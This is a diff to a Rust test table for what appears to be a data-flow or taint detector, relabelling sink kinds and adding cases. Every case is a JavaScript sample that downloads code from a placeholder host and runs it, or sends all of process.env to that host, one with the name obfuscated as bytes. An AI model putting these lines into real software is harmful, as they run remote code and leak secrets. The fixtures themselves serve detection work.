@@ -30,25 +30,25 @@ const CARRIED: &[(&str, SourceKind, SinkKind, &str)] = &[
     (
         "requires what it fetched",
         Fetched,
-        ProgramFile,
+        DynamicCode,
         "fetch('https://collector.invalid/t').then(r => r.text()).then(t => { fs.writeFileSync(__dirname + '/t.js', t); require('./t.js') })",
     ),
     (
         "imports what it fetched",
         Fetched,
-        ProgramFile,
+        DynamicCode,
         "fetch('https://collector.invalid/t').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/a.mjs', t); import('/tmp/a.mjs') })",
     ),
     (
         "imports what it fetched, by an address",
         Fetched,
-        ProgramFile,
+        DynamicCode,
         "const { pathToFileURL } = require('url'); fetch('https://collector.invalid/t').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/a.mjs', t); import(pathToFileURL('/tmp/a.mjs').href) })",
     ),
     (
         "starts a worker on what it fetched",
         Fetched,
-        ProgramFile,
+        DynamicCode,
         "const { Worker } = require('worker_threads'); fetch('https://collector.invalid/t').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/w.js', t); new Worker('/tmp/w.js') })",
     ),
     (
@@ -66,8 +66,20 @@ const CARRIED: &[(&str, SourceKind, SinkKind, &str)] = &[
     (
         "requires what it piped into a file",
         Fetched,
-        ProgramFile,
+        DynamicCode,
         "require('https').get('https://collector.invalid/t', r => r.pipe(fs.createWriteStream('/tmp/t.js')).on('finish', () => require('/tmp/t.js')))",
+    ),
+    (
+        "sends by the browser's request for Node",
+        Environment,
+        Http,
+        "const X = require('xhr2'); const x = new X(); x.open('POST', 'https://collector.invalid'); x.send(JSON.stringify(process.env))",
+    ),
+    (
+        "names the environment by bytes",
+        Environment,
+        Http,
+        "const k = new TextDecoder().decode(new Uint8Array([101, 110, 118])); fetch('https://collector.invalid', { body: JSON.stringify(process[k]) })",
     ),
     (
         "reads a file of tokens into a buffer",
